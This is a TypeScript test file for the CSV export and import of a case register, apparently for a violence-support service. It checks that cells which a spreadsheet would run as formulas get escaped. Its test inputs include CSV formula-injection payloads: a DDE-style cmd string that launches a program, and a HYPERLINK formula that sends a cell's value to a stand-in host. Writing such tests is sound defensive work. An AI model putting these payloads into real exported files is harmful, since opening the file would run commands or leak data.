import { resolveColumns } from '../imports/import-fields';
import { RowMapper } from '../imports/row-mapper';
import { ValueDictionary } from '../imports/value-dictionary';
import { csvLine } from './csv-writer';

describe('csvLine: the register export as a spreadsheet opens it', () => {
  it('puts a quote before every text a spreadsheet would run as a formula, and only there', () => {
    const line = csvLine(['=1+1', '+HYPERLINK("https://x.example/?"&A2,"open")', "-1+cmd|' /C calc'!A0", '@SUM(A1)', '\t=1', '\r=1', '+992 90 000 1111', 'plain', -5, 12, null, true]);
    expect(line).toBe(`'=1+1,"'+HYPERLINK(""https://x.example/?""&A2,""open"")",'-1+cmd|' /C calc'!A0,'@SUM(A1),'\t=1,"'\r=1",'+992 90 000 1111,plain,-5,12,,true\r\n`);
  });

  it('the import takes that quote off again: a phone number or a note makes the round trip unchanged', () => {
    const headers = ['Код клиента', 'Пол', 'Район', 'Дата инцидента', 'Дата обращения', 'Вид насилия', 'Согласие на услуги', 'Согласие на статистику', 'Телефон', 'Описание'];
    const mapper = new RowMapper(resolveColumns(headers, {}).columns, new ValueDictionary());
    const r = mapper.map(2, ['RT-1', 'жен', 'Вахдат', '01.11.2025', '02.11.2025', 'побои', 'да', 'да', "'+992 90 000 1111", "'=she said so"]);
    expect(r.issues).toEqual([]);
    expect(r.row).toMatchObject({ phone: '+992 90 000 1111', narrative: '=she said so' });
    // a quote before anything else is the text's own
    expect(mapper.map(2, ['RT-1', 'жен', 'Вахдат', '01.11.2025', '02.11.2025', 'побои', 'да', 'да', '', "'quoted"]).row).toMatchObject({ narrative: "'quoted" });
  });
});
